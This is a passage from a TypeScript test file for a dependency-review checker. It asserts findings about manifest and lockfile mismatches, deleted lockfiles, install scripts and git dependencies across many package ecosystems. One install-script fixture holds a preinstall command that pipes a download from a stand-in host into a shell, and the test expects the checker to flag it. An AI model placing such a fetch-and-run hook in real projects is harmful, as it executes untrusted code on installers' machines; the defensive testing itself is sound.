/** The rules on real-world shapes: each case is a change as two sets of files, judged with readers or as a bare diff. */
import type { Finding } from '@weir/contract';
import type { DiffFile, DiffLine } from '@weir/diff';
import { verifies } from '@weir/requirements';
import type { CheckResult } from '@weir/specialist-kit';
import { structuredPatch } from 'diff';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { specialist } from './index.ts';
import { RULES } from './rules.ts';

type Tree = Readonly<Record<string, string>>;

const hunksOf = (before: string, after: string, context: number): DiffFile['hunks'] =>
  structuredPatch('a', 'b', before, after, '', '', { context }).hunks.map(hunk => {
    let [old, next] = [hunk.oldStart, hunk.newStart];
    const lines = hunk.lines
      .filter(line => !line.startsWith('\\'))
      .map((line): DiffLine => {
        const text = line.slice(1);
        if (line.startsWith('+')) return { kind: 'added', old: null, new: next++, text };
        if (line.startsWith('-')) return { kind: 'removed', old: old++, new: null, text };
        return { kind: 'context', old: old++, new: next++, text };
      });
    return { oldStart: hunk.oldStart, oldLines: hunk.oldLines, newStart: hunk.newStart, newLines: hunk.newLines, lines };
  });

const fileOf = (path: string, before: string | undefined, after: string | undefined, context: number): DiffFile => ({
  oldPath: before === undefined ? null : path,
  newPath: after === undefined ? null : path,
  kind: before === undefined ? 'added' : after === undefined ? 'deleted' : 'modified',
  oldMode: null,
  newMode: null,
  binary: false,
  submodule: false,
  oldNoEol: false,
  newNoEol: false,
  hunks: hunksOf(before ?? '', after ?? '', context),
  problem: null,
});

interface How {
  readonly bare?: boolean;
  readonly context?: number;
  /** Paths that the ignore rules keep out of the reviewed files. */
  readonly ignored?: readonly string[];
}

const review = (base: Tree, head: Tree, { bare = false, context = 3, ignored = [] }: How = {}): Promise<CheckResult> => {
  const paths = [...new Set([...Object.keys(base), ...Object.keys(head)])].filter(path => base[path] !== head[path] && !ignored.includes(path));
  const files = paths.map(path => fileOf(path, base[path], head[path], context));
  const reader =
    (tree: Tree) =>
    (path: string): Promise<string | undefined> =>
      Promise.resolve(tree[path]);
  const readers = bare ? {} : { readHead: reader(head), readBase: reader(base) };
  const check = specialist.review?.check;
  if (check === undefined) throw new Error('the specialist has no check');
  return check({ files, ...readers, signal: { aborted: false } });
};

const short = ({ rule, path, line, severity }: Finding): string => `${severity} ${rule.replace('dependencies/', '')} ${path}:${line}`;

const json = (value: unknown): string => `${JSON.stringify(value, null, 2)}\n`;
const manifest = (dependencies: Readonly<Record<string, string>>, rest: object = {}): string => json({ name: 'shop', version: '1.0.0', ...rest, dependencies });

const NPM = 'https://registry.npmjs.org';
const packageOf = (name: string, version: string, rest: object = {}): object => ({
  version,
  resolved: `${NPM}/${name}/-/${name}-${version}.tgz`,
  integrity: `sha512-${name}${version}AAAA==`,
  ...rest,
});
const npmLock = (dependencies: Readonly<Record<string, string>>, packages: Readonly<Record<string, object>>, rest: object = {}): string =>
  json({
    name: 'shop',
    version: '1.0.0',
    lockfileVersion: 3,
    requires: true,
    packages: { '': { name: 'shop', version: '1.0.0', ...rest, dependencies }, ...packages },
  });

const EXPRESS = { 'node_modules/express': packageOf('express', '4.18.2') };
const NPM_BASE = { 'package.json': manifest({ express: '^4.18.0' }), 'package-lock.json': npmLock({ express: '^4.18.0' }, EXPRESS) };

interface Case {
  readonly name: string;
  readonly base: Tree;
  readonly head: Tree;
  readonly how?: How;
  readonly finds: readonly string[];
  readonly partial?: readonly string[];
}

const run = (title: string, cases: readonly Case[]): void => {
  describe(title, () => {
    for (const { name, base, head, how, finds, partial } of cases) {
      test(`${verifies('SPEC-6')} ${name}`, async () => {
        const result = await review(base, head, how);
        expect(result.findings.map(short)).toEqual(finds);
        expect(result.partial.map(({ path }) => path)).toEqual(partial ?? []);
      });
    }
  });
};

run('npm: manifest and lockfile', [
  {
    name: 'a new dependency without the lockfile',
    base: NPM_BASE,
    head: { ...NPM_BASE, 'package.json': manifest({ express: '^4.18.0', 'left-pad': '^1.3.0' }) },
    finds: ['major manifest-without-lockfile package.json:6'],
  },
  {
    name: 'a raised range that the locked version does not fit',
    base: NPM_BASE,
    head: { ...NPM_BASE, 'package.json': manifest({ express: '^5.0.0' }) },
    finds: ['major manifest-without-lockfile package.json:5'],
  },
  {
    name: 'a raised range that the locked version still fits is minor',
    base: NPM_BASE,
    head: { ...NPM_BASE, 'package.json': manifest({ express: '^4.18.1' }) },
    finds: ['minor manifest-without-lockfile package.json:5'],
  },
  {
    name: 'a removed dependency that the lockfile keeps is minor, on the old side',
    base: NPM_BASE,
    head: { ...NPM_BASE, 'package.json': manifest({}) },
    finds: ['minor manifest-without-lockfile package.json:5'],
  },
  {
    name: 'both change and disagree',
    base: NPM_BASE,
    head: {
      'package.json': manifest({ express: '^5.0.0' }),
      'package-lock.json': npmLock({ express: '^4.19.0' }, { 'node_modules/express': packageOf('express', '4.19.1') }),
    },
    finds: ['major manifest-without-lockfile package.json:5'],
  },
  {
    name: 'the lockfile changed but an ignore rule hides it: nothing is claimed',
    base: NPM_BASE,
    head: {
      'package.json': manifest({ express: '^5.0.0' }),
      'package-lock.json': npmLock({ express: '^5.0.0' }, { 'node_modules/express': packageOf('express', '5.0.1') }),
    },
    how: { ignored: ['package-lock.json'] },
    finds: [],
  },
  {
    name: 'clean: a bump of both files, as bots make it',
    base: NPM_BASE,
    head: {
      'package.json': manifest({ express: '^5.0.0' }),
      'package-lock.json': npmLock({ express: '^5.0.0' }, { 'node_modules/express': packageOf('express', '5.0.1') }),
    },
    finds: [],
  },
  {
    name: 'clean: a transitive update in the lockfile alone',
    base: NPM_BASE,
    head: { ...NPM_BASE, 'package-lock.json': npmLock({ express: '^4.18.0' }, { 'node_modules/express': packageOf('express', '4.19.1') }) },
    finds: [],
  },
  {
    name: 'clean: a release commit that raises only the version in both files',
    base: NPM_BASE,
    head: {
      'package.json': NPM_BASE['package.json'].replace('1.0.0', '1.1.0'),
      'package-lock.json': NPM_BASE['package-lock.json'].replaceAll('"version": "1.0.0"', '"version": "1.1.0"'),
    },
    finds: [],
  },
  {
    name: 'clean: a build script, a description and engines',
    base: NPM_BASE,
    head: {
      ...NPM_BASE,
      'package.json': manifest({ express: '^4.18.0' }, { description: 'A shop', scripts: { build: 'tsc', prepare: 'husky' }, engines: { node: '>=20' } }),
    },
    finds: [],
  },
  {
    name: 'clean: indentation and order',
    base: { 'package.json': manifest({ a: '1.0.0', b: '2.0.0' }), 'package-lock.json': npmLock({ a: '1.0.0', b: '2.0.0' }, {}) },
    head: {
      'package.json': JSON.stringify({ dependencies: { b: '2.0.0', a: '1.0.0' }, name: 'shop', version: '1.0.0' }, null, '\t'),
      'package-lock.json': npmLock({ a: '1.0.0', b: '2.0.0' }, {}),
    },
    finds: [],
  },
  {
    name: 'clean: a library without a lockfile',
    base: { 'package.json': manifest({}) },
    head: { 'package.json': manifest({ express: '^5.0.0' }) },
    finds: [],
  },
  {
    name: 'the lockfile version 1 lacks the new dependency',
    base: { 'package.json': manifest({}), 'package-lock.json': json({ name: 'shop', lockfileVersion: 1, dependencies: {} }) },
    head: { 'package.json': manifest({ express: '^4.0.0' }), 'package-lock.json': json({ name: 'shop', lockfileVersion: 1, dependencies: {} }) },
    finds: ['major manifest-without-lockfile package.json:5'],
  },
  {
    name: 'clean: version 1 holds a version that fits the new range',
    base: {
      'package.json': manifest({ express: '^4.0.0' }),
      'package-lock.json': json({ lockfileVersion: 1, dependencies: { express: packageOf('express', '4.18.2') } }),
    },
    head: {
      'package.json': manifest({ express: '^4.18.0' }),
      'package-lock.json': json({ lockfileVersion: 1, dependencies: { express: packageOf('express', '4.18.2') } }),
    },
    finds: [],
  },
  {
    name: 'a workspace member against the lockfile of the root',
    base: { 'apps/web/package.json': manifest({}), 'package-lock.json': npmLock({}, { 'apps/web': { name: 'shop' } }) },
    head: { 'apps/web/package.json': manifest({ react: '^18.0.0' }), 'package-lock.json': npmLock({}, { 'apps/web': { name: 'shop' } }) },
    finds: ['major manifest-without-lockfile apps/web/package.json:5'],
  },
  {
    name: 'clean: a folder below the root that is no member',
    base: { 'package-lock.json': npmLock({}, {}, { workspaces: ['packages/*'] }), 'tools/x/package.json': manifest({}) },
    head: { 'package-lock.json': npmLock({}, {}, { workspaces: ['packages/*'] }), 'tools/x/package.json': manifest({ react: '^18.0.0' }) },
    finds: [],
  },
  {
    name: 'a new workspace member that the lockfile does not know',
    base: { 'package-lock.json': npmLock({}, {}, { workspaces: ['packages/*'] }) },
    head: { 'package-lock.json': npmLock({}, {}, { workspaces: ['packages/*'] }), 'packages/new/package.json': manifest({ react: '^18.0.0' }) },
    finds: ['major manifest-without-lockfile packages/new/package.json:5'],
  },
  {
    name: 'clean: a new workspace member with its lockfile entry',
    base: { 'package-lock.json': npmLock({}, {}, { workspaces: ['packages/*'] }) },
    head: {
      'package-lock.json': npmLock(
        {},
        {
          'packages/new': { name: 'shop', version: '1.0.0', dependencies: { react: '^18.0.0' } },
          'node_modules/shop': { resolved: 'packages/new', link: true },
        },
        { workspaces: ['packages/*'] },
      ),
      'packages/new/package.json': manifest({ react: '^18.0.0' }),
    },
    finds: [],
  },
  {
    name: 'a sibling of the workspace that the lockfile links but does not record for the member is minor',
    base: {
      'apps/web/package.json': manifest({}),
      'package-lock.json': npmLock(
        {},
        { 'apps/web': { name: 'web' }, 'libs/ui': { name: 'ui', version: '0.1.0' }, 'node_modules/ui': { resolved: 'libs/ui', link: true } },
      ),
    },
    head: {
      'apps/web/package.json': manifest({ ui: '0.1.0' }),
      'package-lock.json': npmLock(
        {},
        { 'apps/web': { name: 'web' }, 'libs/ui': { name: 'ui', version: '0.1.0' }, 'node_modules/ui': { resolved: 'libs/ui', link: true } },
      ),
    },
    finds: ['minor manifest-without-lockfile apps/web/package.json:5'],
  },
  {
    name: 'an override that the locked version does not fit',
    base: NPM_BASE,
    head: { ...NPM_BASE, 'package.json': manifest({ express: '^4.18.0' }, { overrides: { express: '4.19.0' } }) },
    finds: ['minor manifest-without-lockfile package.json:5'],
  },
  {
    name: 'clean: an override of a package that is not installed',
    base: NPM_BASE,
    head: { ...NPM_BASE, 'package.json': manifest({ express: '^4.18.0' }, { overrides: { lodash: '4.17.21' } }) },
    finds: [],
  },
  {
    name: 'clean: vendored and example manifests',
    base: { 'package-lock.json': npmLock({}, { 'examples/a': {} }), 'examples/a/package.json': manifest({}), 'test/fixtures/p/package.json': manifest({}) },
    head: {
      'package-lock.json': npmLock({}, { 'examples/a': {} }),
      'examples/a/package.json': manifest({ x: '1' }),
      'test/fixtures/p/package.json': manifest({ x: 'git+http://h/x.git' }),
    },
    finds: [],
  },
  {
    name: 'invalid JSON is partial, never a finding',
    base: NPM_BASE,
    head: { ...NPM_BASE, 'package.json': '{ "dependencies": { "a": "1" ' },
    finds: [],
    partial: ['package.json'],
  },
]);

const PNPM = (specifier: string, extra = ''): string => `lockfileVersion: '9.0'

settings:
  autoInstallPeers: true

${extra}importers:

  .:
    dependencies:
      '@scope/a':
        specifier: ${specifier}
        version: 1.2.3
    devDependencies:
      vite:
        specifier: ^5.0.0
        version: 5.0.1(@types/node@20.0.0)

  apps/web:
    dependencies:
      react:
        specifier: ^18.0.0
        version: 18.2.0

packages:

  '@scope/a@1.2.3':
    resolution: {integrity: sha512-AAAA==}
    engines: {node: '>=18'}
`;
const YARN1 = `# yarn lockfile v1


"@babel/core@^7.0.0", "@babel/core@^7.1.0":
  version "7.1.0"
  resolved "https://registry.yarnpkg.com/@babel/core/-/core-7.1.0.tgz#aaaa"
  integrity sha512-AAAA==

lodash@^4.17.0:
  version "4.17.21"
  resolved "https://registry.yarnpkg.com/lodash/-/lodash-4.17.21.tgz#bbbb"
  integrity sha512-BBBB==
`;
const BERRY = (range: string): string => `# This file is generated by running "yarn install" inside your project.

__metadata:
  version: 8
  cacheKey: 10c0

"lodash@npm:^4.17.0":
  version: 4.17.21
  resolution: "lodash@npm:4.17.21"
  checksum: 10c0/aaaa
  languageName: node
  linkType: hard

"shop@workspace:.":
  version: 0.0.0-use.local
  resolution: "shop@workspace:."
  dependencies:
    lodash: "npm:${range}"
  languageName: unknown
  linkType: soft
`;
const BUN = `{
  "lockfileVersion": 1,
  "workspaces": {
    "": {
      "name": "shop",
      "dependencies": {
        "hono": "^4.0.0",
      },
    },
  },
  "packages": {
    "hono": ["hono@4.6.0", "", {}, "sha512-AAAA=="],
  },
}
`;
const same = (file: string, text: string, before: string, after: string, path = 'package.json'): Pick<Case, 'base' | 'head'> => ({
  base: { [path]: before, [file]: text },
  head: { [path]: after, [file]: text },
});

run('yarn, pnpm and bun', [
  {
    name: 'pnpm: a raised range',
    ...same('pnpm-lock.yaml', PNPM('^1.0.0'), manifest({ '@scope/a': '^1.0.0' }), manifest({ '@scope/a': '^1.2.0' })),
    finds: ['major manifest-without-lockfile package.json:5'],
  },
  {
    name: 'pnpm: clean when the importer already records it',
    ...same('pnpm-lock.yaml', PNPM('^1.2.0'), manifest({ '@scope/a': '^1.0.0' }), manifest({ '@scope/a': '^1.2.0' })),
    finds: [],
  },
  {
    name: 'pnpm: a direct dependency that an override pins is not compared',
    ...same('pnpm-lock.yaml', PNPM('1.2.3', "overrides:\n  '@scope/a': 1.2.3\n\n"), manifest({ '@scope/a': '^1.0.0' }), manifest({ '@scope/a': '^1.2.0' })),
    finds: [],
  },
  {
    name: 'pnpm: a member that the lockfile does not list',
    ...same('pnpm-lock.yaml', PNPM('^1.0.0'), manifest({}), manifest({ vue: '3' }), 'docs/package.json'),
    finds: [],
  },
  {
    name: 'pnpm: a listed member',
    ...same('pnpm-lock.yaml', PNPM('^1.0.0'), manifest({ react: '^18.0.0' }), manifest({ react: '^19.0.0' }), 'apps/web/package.json'),
    finds: ['major manifest-without-lockfile apps/web/package.json:5'],
  },
  {
    name: 'pnpm: a removed dependency',
    ...same('pnpm-lock.yaml', PNPM('^1.0.0'), manifest({ '@scope/a': '^1.0.0' }), manifest({})),
    finds: ['major manifest-without-lockfile package.json:5'],
  },
  {
    name: 'pnpm: the lockfile records a range that the manifest does not have',
    base: { 'package.json': manifest({ '@scope/a': '^1.0.0' }), 'pnpm-lock.yaml': PNPM('^1.0.0') },
    head: { 'package.json': manifest({ '@scope/a': '^1.0.0' }), 'pnpm-lock.yaml': PNPM('^1.2.0') },
    finds: ['major lockfile-without-manifest pnpm-lock.yaml:11'],
  },
  {
    name: 'yarn 1: a range without a key',
    ...same('yarn.lock', YARN1, manifest({ lodash: '^4.17.0' }), manifest({ lodash: '^4.17.20' })),
    finds: ['major manifest-without-lockfile package.json:5'],
  },
  { name: 'yarn 1: clean when the key is there already', ...same('yarn.lock', YARN1, manifest({}), manifest({ '@babel/core': '^7.1.0' })), finds: [] },
  {
    name: 'yarn 1: a new name in a lone project',
    ...same('yarn.lock', YARN1, manifest({}), manifest({ chalk: '^5.0.0' })),
    finds: ['major manifest-without-lockfile package.json:5'],
  },
  {
    name: 'yarn 1: a name that may be a sibling in a workspace',
    ...same('yarn.lock', YARN1, manifest({}, { workspaces: ['packages/*'] }), manifest({ utils: '1.0.0' }, { workspaces: ['packages/*'] })),
    finds: [],
  },
  {
    name: 'yarn 1: clean after a move to devDependencies',
    ...same('yarn.lock', YARN1, json({ name: 's', dependencies: { lodash: '^4.17.0' } }), json({ name: 's', devDependencies: { lodash: '^4.17.0' } })),
    finds: [],
  },
  {
    name: 'yarn 2+: a raised range',
    ...same('yarn.lock', BERRY('^4.17.0'), manifest({ lodash: '^4.17.0' }), manifest({ lodash: '^4.17.20' })),
    finds: ['major manifest-without-lockfile package.json:5'],
  },
  {
    name: 'yarn 2+: clean when recorded',
    ...same('yarn.lock', BERRY('^4.17.20'), manifest({ lodash: '^4.17.0' }), manifest({ lodash: '^4.17.20' })),
    finds: [],
  },
  {
    name: 'bun: a new dependency',
    ...same('bun.lock', BUN, manifest({ hono: '^4.0.0' }), manifest({ hono: '^4.0.0', zod: '^3.0.0' })),
    finds: ['major manifest-without-lockfile package.json:6'],
  },
  {
    name: 'bun: clean after a script',
    ...same('bun.lock', BUN, manifest({ hono: '^4.0.0' }), manifest({ hono: '^4.0.0' }, { scripts: { dev: 'bun run x' } })),
    finds: [],
  },
  {
    name: 'of two lockfiles the one that changes counts',
    base: { ...NPM_BASE, 'yarn.lock': YARN1 },
    head: {
      'package.json': manifest({ express: '^5.0.0' }),
      'package-lock.json': npmLock({ express: '^5.0.0' }, { 'node_modules/express': packageOf('express', '5.0.1') }),
      'yarn.lock': YARN1,
    },
    finds: [],
  },
]);

const CARGO_LOCK = `version = 3

[[package]]
name = "serde"
version = "1.0.190"
source = "registry+https://github.com/rust-lang/crates.io-index"
checksum = "aaaa"

[[package]]
name = "shop"
version = "0.1.0"
dependencies = [
 "serde",
]
`;
const cargo = (body: string): string => `[package]\nname = "shop"\nversion = "0.1.0"\n\n[dependencies]\n${body}`;
const pyproject = (dependencies: readonly string[]): string =>
  `[project]\nname = "shop"\nversion = "1.0"\ndependencies = [\n${dependencies.map(name => `    "${name}",\n`).join('')}]\n\n[tool.ruff]\nline-length = 100\n`;
const UV = '[[package]]\nname = "requests"\nversion = "2.31.0"\nsource = { registry = "https://pypi.org/simple" }\n';
const POETRY = '[[package]]\nname = "django"\nversion = "5.0"\n\n[metadata]\ncontent-hash = "aaaa"\n';
const poetry = (range: string, version = '1.0'): string =>
  `[tool.poetry]\nname = "shop"\nversion = "${version}"\n\n[tool.poetry.dependencies]\npython = "^3.11"\ndjango = "${range}"\n`;
const goMod = (lines: string): string => `module example.com/shop\n\ngo 1.22\n\nrequire (\n${lines})\n`;
const GO_SUM = 'github.com/pkg/errors v0.9.1 h1:AAAA=\ngithub.com/pkg/errors v0.9.1/go.mod h1:BBBB=\n';
const GEM_LOCK =
  'GEM\n  remote: https://rubygems.org/\n  specs:\n    rails (7.1.0)\n\nPLATFORMS\n  ruby\n\nDEPENDENCIES\n  pg\n  rails (~> 7.1)\n\nBUNDLED WITH\n   2.5.0\n';
const gemfile = (...gems: readonly string[]): string => `source "https://rubygems.org"\n\n${gems.join('\n')}\n`;

run('other ecosystems', [
  {
    name: 'Cargo: a new crate',
    ...same('Cargo.lock', CARGO_LOCK, cargo('serde = "1"\n'), cargo('serde = "1"\ntokio = { version = "1", features = ["full"] }\n'), 'Cargo.toml'),
    finds: ['major manifest-without-lockfile Cargo.toml:7'],
  },
  {
    name: 'Cargo: a range that the locked version does not fit',
    ...same('Cargo.lock', CARGO_LOCK, cargo('serde = "1"\n'), cargo('serde = "1.0.195"\n'), 'Cargo.toml'),
    finds: ['major manifest-without-lockfile Cargo.toml:6'],
  },
  {
    name: 'Cargo: clean when the locked version fits',
    ...same('Cargo.lock', CARGO_LOCK, cargo('serde = "1"\n'), cargo('serde = { version = "1.0.100", features = ["derive"] }\n'), 'Cargo.toml'),
    finds: [],
  },
  {
    name: 'Cargo: clean version bump of the crate',
    ...same('Cargo.lock', CARGO_LOCK, cargo('serde = "1"\n'), cargo('serde = "1"\n').replace('0.1.0', '0.2.0'), 'Cargo.toml'),
    finds: [],
  },
  {
    name: 'Cargo: a member of the workspace',
    ...same('Cargo.lock', CARGO_LOCK, cargo(''), cargo('rand = "0.8"\n'), 'crates/shop/Cargo.toml'),
    finds: ['major manifest-without-lockfile crates/shop/Cargo.toml:6'],
  },
  {
    name: 'Cargo: clean when the crate is no member',
    ...same('Cargo.lock', CARGO_LOCK, cargo('').replace('shop', 'fuzz'), cargo('rand = "0.8"\n').replace('shop', 'fuzz'), 'fuzz/Cargo.toml'),
    finds: [],
  },
  {
    name: 'Cargo: a renamed crate is looked up by its real name',
    ...same('Cargo.lock', CARGO_LOCK, cargo(''), cargo('serde1 = { package = "serde", version = "1" }\n'), 'Cargo.toml'),
    finds: [],
  },
  {
    name: 'uv: a new requirement',
    ...same('uv.lock', UV, pyproject(['requests>=2']), pyproject(['requests>=2', 'httpx>=0.27']), 'pyproject.toml'),
    finds: ['major manifest-without-lockfile pyproject.toml:6'],
  },
  {
    name: 'uv: clean after a tool setting',
    ...same('uv.lock', UV, pyproject(['requests>=2']), pyproject(['requests>=2']).replace('100', '120'), 'pyproject.toml'),
    finds: [],
  },
  {
    name: 'uv: clean after spaces in a requirement',
    ...same('uv.lock', UV, pyproject(['requests>=2']), pyproject(['requests >= 2']), 'pyproject.toml'),
    finds: [],
  },
  {
    name: 'Poetry: a raised range',
    ...same('poetry.lock', POETRY, poetry('^5.0'), poetry('^5.1'), 'pyproject.toml'),
    finds: ['major manifest-without-lockfile pyproject.toml:7'],
  },
  { name: 'Poetry: clean release commit', ...same('poetry.lock', POETRY, poetry('^5.0'), poetry('^5.0', '1.1'), 'pyproject.toml'), finds: [] },
  {
    name: 'Poetry: clean when an ignore rule hides the changed lockfile',
    base: { 'pyproject.toml': poetry('^5.0'), 'poetry.lock': POETRY },
    head: { 'pyproject.toml': poetry('^5.1'), 'poetry.lock': POETRY.replace('aaaa', 'bbbb') },
    how: { ignored: ['poetry.lock'] },
    finds: [],
  },
  {
    name: 'Poetry: both change, and the lockfile lacks the new name',
    base: { 'pyproject.toml': poetry('^5.0'), 'poetry.lock': POETRY },
    head: { 'pyproject.toml': `${poetry('^5.0')}celery = "^5"\n`, 'poetry.lock': POETRY.replace('aaaa', 'bbbb') },
    finds: ['major manifest-without-lockfile pyproject.toml:8'],
  },
  {
    name: 'Pipenv: a new package',
    ...same('Pipfile.lock', json({ default: { django: {} } }), '[packages]\ndjango = "*"\n', '[packages]\ndjango = "*"\ncelery = "*"\n', 'Pipfile'),
    finds: ['major manifest-without-lockfile Pipfile:3'],
  },
  {
    name: 'Go: a raised version without its sum',
    ...same('go.sum', GO_SUM, goMod('\tgithub.com/pkg/errors v0.9.1\n'), goMod('\tgithub.com/pkg/errors v0.9.2\n'), 'go.mod'),
    finds: ['major manifest-without-lockfile go.mod:6'],
  },
  { name: 'Go: clean when the sum is there', ...same('go.sum', GO_SUM, goMod(''), goMod('\tgithub.com/pkg/errors v0.9.1 // indirect\n'), 'go.mod'), finds: [] },
  {
    name: 'Go: clean when the module is replaced by a folder',
    ...same('go.sum', GO_SUM, goMod(''), `${goMod('\texample.com/lib v0.1.0\n')}\nreplace example.com/lib => ./lib\n`, 'go.mod'),
    finds: [],
  },
  {
    name: 'Bundler: a new gem',
    ...same('Gemfile.lock', GEM_LOCK, gemfile('gem "rails", "~> 7.1"'), gemfile('gem "rails", "~> 7.1"', 'gem "sidekiq"'), 'Gemfile'),
    finds: ['major manifest-without-lockfile Gemfile:4'],
  },
  {
    name: 'Bundler: another requirement',
    ...same('Gemfile.lock', GEM_LOCK, gemfile('gem "rails", "~> 7.1"'), gemfile('gem "rails", "~> 7.2"'), 'Gemfile'),
    finds: ['major manifest-without-lockfile Gemfile:3'],
  },
  {
    name: 'Bundler: clean after a gem moves into a group',
    ...same(
      'Gemfile.lock',
      GEM_LOCK,
      gemfile('gem "pg"', 'gem "rails", "~> 7.1"'),
      gemfile('gem "rails", "~> 7.1"', 'group :test do', '  gem "pg"', 'end'),
      'Gemfile',
    ),
    finds: [],
  },
  {
    name: 'Composer: a new package',
    ...same(
      'composer.lock',
      json({ packages: [{ name: 'a/b' }] }),
      json({ require: { 'a/b': '^1' } }),
      json({ require: { 'a/b': '^1', 'c/d': '^2' } }),
      'composer.json',
    ),
    finds: ['major manifest-without-lockfile composer.json:4'],
  },
  {
    name: 'NuGet: a new package',
    ...same(
      'packages.lock.json',
      json({ dependencies: { net8: { Serilog: { type: 'Direct' } } } }),
      '<Project>\n</Project>\n',
      '<Project>\n  <PackageReference Include="Polly" Version="8.0.0" />\n</Project>\n',
      'Shop.csproj',
    ),
    finds: ['major manifest-without-lockfile Shop.csproj:2'],
  },
  {
    name: 'Mix: a new dependency',
    ...same(
      'mix.lock',
      '%{\n  "plug": {:hex, :plug, "1.15.0"},\n}\n',
      '      {:plug, "~> 1.15"}\n',
      '      {:plug, "~> 1.15"},\n      {:jason, "~> 1.4"}\n',
      'mix.exs',
    ),
    finds: ['major manifest-without-lockfile mix.exs:2'],
  },
  {
    name: 'pub: a range that the locked version does not fit',
    ...same(
      'pubspec.lock',
      'packages:\n  http:\n    dependency: "direct main"\n    version: "1.1.0"\n',
      'name: shop\ndependencies:\n  http: ^1.0.0\n',
      'name: shop\ndependencies:\n  http: ^1.2.0\n',
      'pubspec.yaml',
    ),
    finds: ['major manifest-without-lockfile pubspec.yaml:3'],
  },
  { name: 'clean: no lockfile at head', base: { 'Cargo.toml': cargo('') }, head: { 'Cargo.toml': cargo('rand = "0.8"\n') }, finds: [] },
  { name: 'invalid TOML is partial', ...same('Cargo.lock', CARGO_LOCK, cargo(''), cargo('rand = \n'), 'Cargo.toml'), finds: [], partial: ['Cargo.toml'] },
]);

run('lockfile without manifest, and deleted lockfiles', [
  {
    name: 'npm: a dependency in the lockfile alone',
    base: NPM_BASE,
    head: {
      ...NPM_BASE,
      'package-lock.json': npmLock({ express: '^4.18.0', chalk: '^5.0.0' }, { ...EXPRESS, 'node_modules/chalk': packageOf('chalk', '5.0.0') }),
    },
    finds: ['minor lockfile-without-manifest package-lock.json:12'],
  },
  {
    name: 'npm: the lockfile moves to a version that the manifest excludes',
    base: NPM_BASE,
    head: { ...NPM_BASE, 'package-lock.json': npmLock({ express: '^5.0.0' }, { 'node_modules/express': packageOf('express', '5.0.1') }) },
    finds: ['major lockfile-without-manifest package-lock.json:11'],
  },
  { name: 'a lockfile is deleted', base: NPM_BASE, head: { 'package.json': NPM_BASE['package.json'] }, finds: ['minor lockfile-deleted package-lock.json:0'] },
  { name: 'clean: another lockfile takes its place', base: NPM_BASE, head: { 'package.json': NPM_BASE['package.json'], 'yarn.lock': YARN1 }, finds: [] },
  { name: 'clean: the project is deleted', base: NPM_BASE, head: {}, finds: [] },
  {
    name: 'bare: a deleted lockfile is partial',
    base: NPM_BASE,
    head: { 'package.json': NPM_BASE['package.json'] },
    how: { bare: true },
    finds: [],
    partial: ['package-lock.json'],
  },
]);

const withScripts = (scripts: Readonly<Record<string, string>>, rest: object = {}): Tree => ({
  'package.json': json({ name: 'shop', scripts: { build: 'tsc', ...scripts }, ...rest }),
});
run('install scripts', [
  {
    name: 'a new postinstall',
    base: withScripts({}),
    head: withScripts({ postinstall: 'node scripts/setup.js' }),
    finds: ['minor install-script package.json:5'],
  },
  {
    name: 'a preinstall that downloads is major',
    base: withScripts({}),
    head: withScripts({ preinstall: 'curl -s https://example.com/x | sh' }),
    finds: ['major install-script package.json:5'],
  },
  {
    name: 'a changed postinstall is a note',
    base: withScripts({ postinstall: 'node a.js' }),
    head: withScripts({ postinstall: 'node b.js' }),
    finds: ['note install-script package.json:5'],
  },
  { name: 'clean: prepare with husky', base: withScripts({}), head: withScripts({ prepare: 'husky install' }), finds: [] },
  {
    name: 'clean: a postinstall that only moves',
    base: withScripts({ postinstall: 'node a.js', test: 'vitest' }),
    head: withScripts({ test: 'vitest', postinstall: 'node a.js' }),
    finds: [],
  },
  { name: 'clean: a removed postinstall', base: withScripts({ postinstall: 'node a.js' }), head: withScripts({}), finds: [] },
  {
    name: 'a build permission of pnpm',
    base: withScripts({}),
    head: withScripts({}, { pnpm: { onlyBuiltDependencies: ['esbuild'] } }),
    finds: ['minor install-script package.json:9'],
  },
  {
    name: 'a build permission in pnpm-workspace.yaml',
    base: { 'pnpm-workspace.yaml': 'packages:\n  - apps/*\n' },
    head: { 'pnpm-workspace.yaml': 'packages:\n  - apps/*\nonlyBuiltDependencies:\n  - esbuild\n' },
    finds: ['minor install-script pnpm-workspace.yaml:4'],
  },
  {
    name: 'every build allowed',
    base: { 'pnpm-workspace.yaml': 'packages:\n  - apps/*\n' },
    head: { 'pnpm-workspace.yaml': 'packages:\n  - apps/*\ndangerouslyAllowAllBuilds: true\n' },
    finds: ['major install-script pnpm-workspace.yaml:3'],
  },
  {
    name: 'a locked package that newly runs scripts',
    base: NPM_BASE,
    head: {
      'package.json': manifest({ express: '^4.18.0', sharp: '^0.33.0' }),
      'package-lock.json': npmLock(
        { express: '^4.18.0', sharp: '^0.33.0' },
        { ...EXPRESS, 'node_modules/sharp': packageOf('sharp', '0.33.0', { hasInstallScript: true }) },
      ),
    },
    finds: ['minor install-script package-lock.json:24'],
  },
  {
    name: 'clean: a bump of a package that ran scripts before',
    base: { 'package-lock.json': npmLock({}, { 'node_modules/sharp': packageOf('sharp', '0.33.0', { hasInstallScript: true }) }) },
    head: { 'package-lock.json': npmLock({}, { 'node_modules/sharp': packageOf('sharp', '0.33.1', { hasInstallScript: true }) }) },
    finds: [],
  },
  {
    name: 'bare: a postinstall inside scripts',
    base: withScripts({}),
    head: withScripts({ postinstall: 'node a.js' }),
    how: { bare: true },
    finds: ['minor install-script package.json:5'],
  },
  {
    name: 'bare: a package that is called install',
    base: { 'package.json': manifest({ a: '1', b: '2', c: '3', d: '4' }) },
    head: { 'package.json': manifest({ a: '1', b: '2', c: '3', d: '4', install: '^0.13.0' }) },
    how: { bare: true },
    finds: [],
    partial: ['package.json'],
  },
]);

const COMMIT = '0123456789abcdef0123456789abcdef01234567';
const npmSource = (spec: string): Pick<Case, 'base' | 'head'> => ({
  base: { 'package.json': manifest({}) },
  head: { 'package.json': manifest({ dep: spec }) },
});
const lineIn = (path: string, before: string, line: string): Pick<Case, 'base' | 'head'> => ({
  base: { [path]: before },
  head: { [path]: `${before}${line}\n` },
});
const SOURCE = (severity: string, path = 'package.json', line = 5): readonly string[] => [`${severity} git-or-url-dependency ${path}:${line}`];
run('git and URL dependencies', [
  { name: 'npm: git over https', ...npmSource('git+https://github.com/a/b.git#main'), finds: SOURCE('minor') },
  { name: 'npm: a whole commit id', ...npmSource(`git+ssh://git@github.com/a/b.git#${COMMIT}`), finds: SOURCE('note') },
  { name: 'npm: the shorthand owner/repository', ...npmSource('a/b#v1'), finds: SOURCE('minor') },
